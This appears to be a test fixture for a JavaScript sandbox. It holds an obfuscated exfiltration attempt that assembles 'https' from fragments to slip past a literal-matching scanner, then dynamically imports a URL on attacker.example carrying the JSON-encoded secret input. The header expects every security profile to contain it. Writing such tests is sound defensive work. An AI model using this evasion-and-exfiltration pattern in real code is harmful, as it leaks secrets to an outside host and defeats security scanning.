/*---
id: ex-url-import-02-template-url
description: "Builds the remote module URL with a template literal carrying the input, hiding both the scheme and the leaked data from a literal-matching scanner."
kind: malicious
category: exfiltration
technique: EX-url-import
variant: obfuscated
references:
  - "SES import rejection"
expect:
  ultra-secure: { outcome: contained, value: "held" }
  high-security: { outcome: contained, value: "held" }
  tenant-isolated: { outcome: contained, value: "held" }
input: { secret: "k" }
---*/
const scheme = ['ht', 'tps'].join('');
const url = `${scheme}://attacker.example/${encodeURIComponent(JSON.stringify(input))}.js`;
return import(url).then(() => 'ESCAPED: remote module loaded', () => 'held');
